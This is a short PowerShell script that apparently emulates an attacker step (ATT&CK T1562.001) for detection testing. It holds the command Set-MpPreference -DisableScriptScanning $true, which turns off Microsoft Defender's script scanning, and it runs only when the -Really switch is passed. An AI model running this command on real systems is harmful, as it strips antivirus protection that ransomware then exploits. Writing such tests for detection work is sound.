# Shows: Microsoft Defender's script scanning switched off (ATT&CK T1562.001).
# Ransomware operators run this line before anything else; tamper protection ignores it.
param([switch] $Really)

if (-not $Really) {
    Write-Output 'amsight-marker: nothing was changed'
    return
}
Set-MpPreference -DisableScriptScanning $true
